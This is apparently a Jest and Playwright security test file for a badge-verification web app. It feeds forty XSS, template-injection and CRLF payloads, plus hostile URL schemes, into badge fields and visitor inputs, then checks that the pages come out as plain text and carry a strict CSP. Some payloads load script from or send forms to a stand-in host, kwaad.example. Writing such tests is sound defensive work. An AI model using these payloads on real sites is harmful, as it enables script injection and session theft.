/**
 * W1, P14: texts that want to become markup. Forty of them in every field of a badge, ours and anybody's, and in whatever
 * a visitor can send. A real browser's parser reads the pages: they must have exactly the elements and attributes of the
 * same page with a harmless text.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import request from 'supertest';
import { approveAwards } from '../../../src/issuing/awards/approve-awards.ts';
import { issueAward } from '../../../src/issuing/awards/issue-award.ts';
import { createCeremony } from '../../../src/issuing/ceremonies/ceremonies.ts';
import { createApp } from '../../../src/web/app.ts';
import { readBadge } from '../../../src/web/public/gated.ts';
import { ROUTES } from '../../../src/web/routes.ts';
import { startTestApp, type TestApp } from '../../support/app.ts';
import { startBrowser } from '../../support/browser.ts';
import { createAuthority, type Json } from '../../support/mock-authority.ts';
import { createKey, withProof } from '../../support/sign-proof.ts';
import { fakeServices } from '../../support/web-services.ts';
import { type Issued, publish } from '../../web/issued-badge.ts';

/** What would run, load, leave its attribute or reorder the page where a text is not only a text. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<ScRiPt src=//kwaad.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=`alert(1)`',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert`1`>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">klik</a>',
  '<base href="https://kwaad.example/">',
  '<meta http-equiv="refresh" content="0;url=https://kwaad.example/">',
  '<link rel="stylesheet" href="https://kwaad.example/x.css">',
  '<style>*{display:none}</style>',
  '<form action="https://kwaad.example/"><input name="code">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<!--><script>alert(1)</script-->',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '[klik](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{body}}} {{> layouts/main}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is the attack.
  '${alert(1)} <%= 7*7 %> #{7*7}',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  "');alert(1);//",
] as const;

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://kwaad.example/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://kwaad.example/1',
  'file:///etc/passwd',
  'https://kwaad.example/"onmouseover="alert(1)',
];
const HARMLESS = 'Werkt goed samen';

let browser: Browser;
let parser: Page;
let app: TestApp;

beforeAll(async () => {
  browser = await startBrowser();
  parser = await browser.newPage();
  app = await startTestApp();
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await app?.end();
});

interface Parsed {
  /** Anything that runs, loads from elsewhere or goes where no page of ours leads. */
  bad: string[];
  /** Names of all elements and their attributes, in order. */
  skeleton: string;
}

/** Run inside the browser, whose types are not ours: what its parser makes of a text. Nothing of it runs. */
const PARSE = String.raw`({ source, type }) => {
  const bad = [];
  const names = [];
  const links = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'poster'];
  for (const element of new DOMParser().parseFromString(source, type).querySelectorAll('*')) {
    const name = element.localName;
    names.push(name + '(' + [...element.attributes].map((attribute) => attribute.name).join() + ')');
    const ours = (element.getAttribute('src') ?? '').startsWith('/static/');
    if (name === 'script' && !ours && element.getAttribute('type') !== 'application/json') bad.push('script');
    const camera = name === 'video' && element.getAttributeNames().join() === 'class,playsinline,muted,hidden';
    const never = ['iframe', 'object', 'embed', 'base', 'style', 'math', 'video', 'foreignObject'].includes(name);
    if (never && !camera) bad.push(name);
    if (element.getAttribute('http-equiv')) bad.push('http-equiv');
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on') || attribute === 'style') bad.push(name + ' ' + attribute);
      // A browser leaves out tabs and line breaks, and whatever invisible stands before the scheme.
      const scheme = /^[\u0000-\u0020]*([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\t\r\n]/g, ''))?.[1]?.toLowerCase();
      const allowed = ['https', 'http', 'mailto', undefined, name === 'img' ? 'data' : undefined];
      // The table as a file: saved, never opened in the page, and escaped to the last character.
      const file = name === 'a' && element.hasAttribute('download') && /^data:text\/csv;charset=utf-8,[\w%.!~*'()-]*$/.test(value);
      if (file) continue;
      if (links.includes(attribute) && !allowed.includes(scheme)) bad.push(name + ' ' + value);
    }
  }
  return { bad, skeleton: names.join('\n') };
}`;

function parse(source: string, type: 'text/html' | 'image/svg+xml' = 'text/html'): Promise<Parsed> {
  return parser.evaluate(`(${PARSE})(${JSON.stringify({ source, type })})`);
}

async function kindsIn(svg: string): Promise<unknown> {
  const { bad, skeleton } = await parse(svg, 'image/svg+xml');
  return { bad, kinds: new Set(skeleton.split('\n')) };
}

/** Pages with such texts against the same page with a harmless one. */
async function expectOnlyText(harmless: string, pages: readonly string[]): Promise<void> {
  const like = await parse(harmless);
  expect(like.bad).toEqual([]);
  for (const html of pages) expect(await parse(html)).toEqual(like);
}

describe('W1, P14: a badge of anybody, on the verify page', () => {
  const key = createKey('Ed25519');
  const page = async (badge: Json): Promise<string> => {
    const signed = await withProof(badge, key);
    const { text } = await request(app.app).post('/verify').field('text', JSON.stringify(signed)).expect(200);
    // Some of the addresses are none, so that those badges are not in order; all of them are shown.
    expect(text).toMatch(/Echt, uitgever onbekend|Nu niet te controleren/);
    expect(text).toContain('PROOF_VALID');
    return text;
  };
  /** This text in every field that is one; these addresses in every field that is one. */
  const badgeOf = async (text: string, url = 'https://school.example/x'): Promise<Json> => {
    const { credentialStatus: _status, ...template } = (await createAuthority()).credential();
    const subject = template.credentialSubject as Json & { achievement: Json };
    return {
      ...template,
      name: text,
      description: text,
      issuer: { id: key.did, type: ['Profile'], name: text, description: text, url },
      evidence: [{ id: url, type: ['Evidence'], name: text, narrative: text, description: text, genre: text }],
      credentialSubject: {
        ...subject,
        narrative: text,
        term: text,
        achievement: {
          ...subject.achievement,
          name: text,
          description: text,
          humanCode: text,
          fieldOfStudy: text,
          specialization: text,
          criteria: { narrative: text },
          tag: [text, 'x'],
          alignment: [
            { type: ['Alignment'], targetName: text, targetUrl: url, targetFramework: text, targetCode: 'x' },
          ],
          resultDescription: [
            {
              id: 'https://issuer.example/achievements/7#niveau',
              type: ['ResultDescription'],
              name: text,
              resultType: 'RubricCriterionLevel',
              rubricCriterionLevel: [
                {
                  id: 'https://issuer.example/achievements/7#gevorderd',
                  type: ['RubricCriterionLevel'],
                  name: text,
                  level: text,
                },
              ],
            },
          ],
        },
      },
    };
  };

  test('forty texts in every field', async () => {
    expect(PAYLOADS).toHaveLength(40);
    const pages: string[] = [];
    for (const payload of PAYLOADS) pages.push(await page(await badgeOf(payload)));
    await expectOnlyText(await page(await badgeOf(HARMLESS)), pages);
  }, 120_000);

  test('addresses that run something', async () => {
    for (const address of ADDRESSES) {
      const url = address.includes('"') ? encodeURI(address) : address;
      expect((await parse(await page(await badgeOf(HARMLESS, url)))).bad).toEqual([]);
    }
  }, 120_000);

  test('keep their place in the report: what is shown comes from the gated document', async () => {
    const signed = await withProof(await badgeOf('<b>x</b>'), key);
    const answer = await request(app.app).post('/api/v1/verify').type('json').send(JSON.stringify(signed)).expect(200);
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.body.summary.achievement).toBe('<b>x</b>');
  });
});

test('P14: an address that is none of the web becomes no link', () => {
  const badge = (url: string): Json => ({
    issuer: { id: 'did:web:a.example', name: 'A', url },
    credentialSubject: { achievement: { alignment: [{ targetName: 'x', targetUrl: url }] } },
  });
  const links = (url: string): unknown[] => {
    const { issuerUrl, alignments } = readBadge(badge(url));
    return [issuerUrl, alignments[0]?.url];
  };
  expect(links('https://school.example/x')).toEqual(['https://school.example/x', 'https://school.example/x']);
  for (const address of ADDRESSES.filter((one) => !one.startsWith('https:'))) {
    expect([address, ...links(address)]).toEqual([address, null, null]);
  }
});

describe('W1: a badge of ours, on its page, its desk and its medal', () => {
  /** As an installation whose forms let everything through. */
  async function issueWith(text: string, slug: string): Promise<{ pages: string[]; svg: string }> {
    const made = await app.addOrganisation(slug);
    await app.storage.organisations.update({ ...made.organisation, name: text });
    const { agent, actor } = await app.signIn(made.organisation.id, 'admin', `admin@${slug}.example`);
    const achievementId = made.badges.get('samenwerken') ?? '';
    const version = await app.storage.achievements.newestVersion(achievementId);
    if (version === null) throw new Error('just published');
    const line = { paper: [text], signed: [text] };
    const content = {
      ...version.content,
      name: text,
      claim: `kan ${text}`,
      description: text,
      employerText: text,
      levels: { beginner: line, gevorderd: line, expert: line },
      translations: {
        en: {
          name: text,
          claim: `can ${text}`,
          employerText: text,
          levels: { beginner: [text], gevorderd: [text], expert: [text] },
        },
      },
    };
    await app.storage.achievements.updateVersion({ ...version, content });
    const ceremony = await createCeremony(app.issuing, actor, { name: 'Middag', date: '2026-11-19', place: 'x' });
    const row = { row: 1, name: 'Sam', pageName: 'Sam', email: null, level: 'gevorderd' as const, words: text };
    const { approved } = await approveAwards(app.issuing, actor, {
      ceremonyId: ceremony.id,
      achievementId,
      rows: [{ ...row, awardedDate: '2026-11-19', secondJudge: null, key: slug }],
    });
    const award = await issueAward(app.issuing, approved[0]?.id ?? '');
    await app.storage.awards.update({ ...award, pageName: text, judgeName: text });
    await app.storage.ceremonies.update({ ...ceremony, name: text, place: text });
    const issued: Issued = { award, slug: award.slug ?? '', controlCode: '', shortCode: '' };
    await publish(app, actor, issued, 'page');
    const anybody = [
      `/b/${issued.slug}`,
      `/b/${issued.slug}?lang=en`,
      `/achievements/${version.id}`,
      `/issuers/${slug}`,
    ];
    const staff = [
      '/desk',
      '/desk/ceremonies',
      `/desk/ceremonies/${ceremony.id}`,
      `/desk/ceremonies/${ceremony.id}/edit`,
    ];
    staff.push(
      `/desk/ceremonies/${ceremony.id}/consent`,
      `/desk/awards/${award.id}`,
      `/desk/awards/${award.id}/revoke`,
    );
    staff.push('/desk/achievements', `/desk/achievements/${achievementId}`, '/desk/organisation');
    const pages: string[] = [];
    for (const path of anybody) pages.push((await request(app.app).get(path).expect(200)).text);
    for (const path of staff) pages.push((await agent.get(path).expect(200)).text);
    const svg = await request(app.app).get(`/achievements/${version.id}/gevorderd.svg`).expect(200);
    return { pages, svg: svg.body.toString() };
  }

  test('forty texts in every field', async () => {
    const harmless = await issueWith(HARMLESS, 'gewoon');
    // Two at a time: a name that goes on paper as a statement has at most 200 characters.
    const inGroups = Array.from({ length: 20 }, (_, group) => PAYLOADS.slice(group * 2, group * 2 + 2));
    for (const [at, group] of inGroups.entries()) {
      const { pages, svg } = await issueWith(group.join(' ').replace(/[\r\n]+/g, ' '), `evil${at}`);
      for (const [which, html] of pages.entries()) await expectOnlyText(harmless.pages[which] ?? '', [html]);
      // How many lines a name takes depends on its length; what there is on a medal does not.
      expect(await kindsIn(svg)).toEqual(await kindsIn(harmless.svg));
    }
  }, 120_000);
});

describe('W1: what a visitor sends back to himself', () => {
  test('texts, names, links, codes, languages and file names', async () => {
    const send: [string, (text: string) => request.Test][] = [
      ['a text to verify', (text) => request(app.app).post('/verify').field('text', text)],
      ['a name', (text) => request(app.app).post('/verify').field('text', '{}').field('name', text)],
      ['an e-mail', (text) => request(app.app).post('/verify').field('text', '{}').field('email', text)],
      ['a link', (text) => request(app.app).post('/verify').field('url', `https://kwaad.example/${text}`)],
      [
        'a link in the address',
        (text) =>
          request(app.app)
            .get('/verify')
            .query({ url: `https://kwaad.example/${text}` }),
      ],
      ['a code', (text) => request(app.app).get('/b').query({ code: text })],
      ['an address', (text) => request(app.app).get(`/x/${encodeURIComponent(text)}`)],
      ['a language', (text) => request(app.app).get('/').query({ lang: text })],
      ['where to go next', (text) => request(app.app).get('/sign-in').query({ next: text })],
      [
        'a file name',
        (text) =>
          request(app.app)
            .post('/verify')
            .attach('file', Buffer.from('{}'), { filename: text.replace(/[\r\n]/g, '') }),
      ],
    ];
    for (const [_about, ask] of send) {
      for (const payload of PAYLOADS) {
        const { text, headers } = await ask(payload);
        expect(headers['set-cookie'] ?? []).not.toContainEqual(expect.stringMatching(/^a=b/));
        expect((await parse(text)).bad).toEqual([]);
      }
    }
  }, 120_000);
});

test('W1: every route answers with a policy that runs nothing inline', async () => {
  const strange = createApp(fakeServices());
  for (const { method, path } of ROUTES) {
    const { headers } = await request(strange)[method](path.replace(/:(\w+)/g, 'x'));
    const policy = String(headers['content-security-policy']);
    expect([path, policy]).toEqual([path, expect.stringContaining("default-src 'none'")]);
    for (const part of ["base-uri 'none'", "frame-ancestors 'none'"]) {
      expect([path, policy]).toEqual([path, expect.stringContaining(part)]);
    }
    expect([path, /'unsafe-(inline|eval|hashes)'|\*/.test(policy)]).toEqual([path, false]);
    expect([path, policy.includes("'wasm-unsafe-eval'")]).toEqual([path, path === '/verify']);
    expect([path, headers['x-content-type-options']]).toEqual([path, 'nosniff']);
  }
  for (const path of ['/static/blijk.css', '/nope', '/../x', '/%00']) {
    const { headers } = await request(strange).get(path);
    expect([path, headers['content-security-policy']]).toEqual([path, expect.stringContaining("default-src 'none'")]);
  }
});
